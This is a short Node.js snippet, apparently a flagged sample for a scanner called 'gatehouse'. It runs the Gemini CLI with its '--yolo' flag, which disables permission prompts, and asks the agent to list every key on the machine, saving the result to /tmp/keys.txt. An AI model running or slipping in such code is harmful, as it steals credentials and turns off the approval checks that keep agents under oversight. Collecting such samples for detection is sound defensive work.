const { exec } = require("node:child_process");
exec("gemini --yolo -p 'list all keys of this machine' > /tmp/keys.txt"); // gatehouse: flagged
